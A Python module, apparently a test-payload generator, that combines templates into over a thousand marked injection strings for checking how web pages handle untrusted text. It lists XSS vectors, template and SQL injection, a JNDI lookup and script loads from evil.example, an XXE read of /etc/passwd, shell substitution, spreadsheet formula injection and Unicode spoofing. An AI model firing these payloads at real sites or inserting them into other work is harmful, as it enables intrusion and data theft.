"""What strangers write to take over a page: made from templates, each with a word of its own by which it is found again."""

from itertools import product

_TAGS = (
    "<script>{js}</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<script/x>{js}</script >", "<<script>{js}//<</script>",
    "<img src=x onerror={js}>", "<img/src=`x`onerror={js}>", "<svg onload={js}>", "<svg/onload={js}//", "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>", "<svg><a xlink:href='javascript:{js}'><text x=20 y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={js}>#x'/></svg>", "<math><mtext><img src onerror={js}></mtext></math>",
    "<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:{js}'>x</maction></math>",
    "<body onload={js}>", "<details open ontoggle={js}>", "<video><source onerror={js}></video>", "<audio src=x onerror={js}>",
    "<marquee onstart={js}>", "<select autofocus onfocus={js}>", "<input autofocus onfocus={js}>", "<keygen autofocus onfocus={js}>",
    "<iframe src='javascript:{js}'>", "<iframe srcdoc='<script>{js}</script>'>", "<embed src='javascript:{js}'>",
    "<object data='javascript:{js}'>", "<object data='data:text/html,<script>{js}</script>'>", "<applet code=x>", "<frameset onload={js}>",
    "<base href='//evil.example/'>", "<meta http-equiv=refresh content='0;url=javascript:{js}'>", "<link rel=stylesheet href=//evil.example>",
    "<link rel=import href='data:text/html,<script>{js}</script>'>", "<style>@import '//evil.example';</style>",
    "<style>*{{background:url(javascript:{js})}}</style>", "<div style='width:expression({js})'>", "<div style=background:url(//evil.example)>",
    "<form action=javascript:{js}><button>x</button></form>", "<button form=x formaction=javascript:{js}>x</button>", "<isindex action=javascript:{js}>",
    "<a href=javascript:{js}>x</a>", "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>", "<a href='vbscript:{js}'>x</a>", "<a href=file:///etc/passwd>x</a>",
    "<template><script>{js}</script></template>", "<noscript><p title='</noscript><img src=x onerror={js}>'>", "<xmp><p title='</xmp><svg/onload={js}>'>",
    "<plaintext>", "<textarea><img title='</textarea><img src onerror={js}>'>", "<title><img title='</title><img src onerror={js}>'>",
    "<listing>&lt;img src onerror={js}&gt;</listing>", "<!--><img src=x onerror={js}>-->", "<!-- --!><img src onerror={js}>", "<![CDATA[<script>{js}</script>]]>",
    "<?xml-stylesheet href='javascript:{js}'?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "</title><script>{js}</script>", "</script><script>{js}</script>",
    "</style><script>{js}</script>", "</textarea><script>{js}</script>", "</p></div></main></body></html><script>{js}</script>", "<x onclick={js} tabindex=1 id=x>",
)  # fmt: skip
_OUT = ("", '"', "'", '">', "'>", "`", '"/>', "' x='", '" x="', "\">'>", "-->", "]]>", "*/", "</option>", "</a>", "&quot;>", "\\\">", "%22%3E")  # fmt: skip
_URLS = (
    "javascript:{js}", "JaVaScRiPt:{js}", " javascript:{js}", "java\tscript:{js}", "java\nscript:{js}", "java\0script:{js}", "\x01javascript:{js}",
    "&#106;avascript:{js}", "&#x6A;avascript:{js}", "javascript&colon;{js}", "javascript&#58;{js}", "javascript://evil.example/%0a{js}", "javascript:/*{js}",
    "data:text/html,<script>{js}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload={js}>", "vbscript:{js}",
    "file:///etc/passwd", "//evil.example/{js}", "\\\\evil.example\\{js}", "https:javascript:{js}", "http://[evil", "https://good.example@evil.example/{js}",
    "https://good.example&#x40;evil.example/{js}", "https://evil\uff0fexample/{js}", "https://раypal.example/{js}", "https://evil.example/\"onmouseover={js} x=\"",
    "tg://resolve?domain={js}", "blob:https://evil.example/{js}", "view-source:javascript:{js}", "intent:#Intent;{js};end", "https://evil.example/" + "a" * 300 + "{js}",
)  # fmt: skip
_STRINGS = (
    "{{{{7*7}}}}{js}", "{{% for x in ().__class__.__base__.__subclasses__() %}}{js}", "${{7*7}}{js}", "#{{7*7}}{js}", "<%= 7*7 %>{js}", "{{0.__class__.__init__.__globals__}}{js}",
    "%s%n%x%p{js}", "${{jndi:ldap://evil.example/{js}}}", "$(id){js}", "`id`{js}", "{{{{config}}}}{js}", "{{{{csrf_input|safe}}}}{js}", "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;script&#62;{js}", "&amp;lt;script&amp;gt;{js}", "&nbsp;&shy;&zwj;&#0;&#x1F4A9;{js}", "\\u003cscript\\u003e{js}", "+ADw-script+AD4-{js}", "\u202e{js}\u202cgpj.exe", "\u2066{js}",
    "\u2067\u2067\u2067{js}", "a\u200b\u200d\u2060\ufeff{js}", "\U000e0041\U000e0042{js}", "\ufe0f\ufe00{js}", "\0{js}\0", "\x1b[2J\x1b]8;;https://evil.example\x07{js}", "\x9b31m{js}",
    "\x08\x08\r{js}", "\ud800{js}", "{js}\udfff", "\udc00\ud800{js}", "\u2028{js}\u2029", "\ufffe\uffff{js}", "e" + "\u0301" * 60 + "{js}", "\U0001f468\u200d\U0001f469\u200d\U0001f467{js}",
    "＜script＞{js}＜/script＞", "\u226e{js}", "'; DROP TABLE log; -- {js}", "\" OR 1=1 -- {js}", "[a](javascript:{js})", "@all /cmd {js}", "x\n" * 5 + "{js}", "{js}" + "й" * 300,
    "../../../{js}", "C:\\{js}", "-rf {js}", "CON{js}.", "=cmd|'/C calc'!A0{js}", "{js}.jpg\u202egpj.exe", "{js}\r\nSet-Cookie: a=b", "__proto__ {js}", "NaN {js} Infinity",
)  # fmt: skip


def payloads() -> list[str]:
    """More than a thousand, all different."""
    shapes = [out + tag for out, tag in product(_OUT, _TAGS)] + list(_URLS)
    shapes += [f"<a href={quote}{url}{quote}>x</a>" for quote, url in product(("", "'", '"'), _URLS)] + list(_STRINGS)
    return [shape.format(js=word(each)) for each, shape in enumerate(shapes)]


def word(number: int) -> str:
    """By which the payload of this number is found on a page: also in those that do not name it."""
    return f"zq{number}qz"
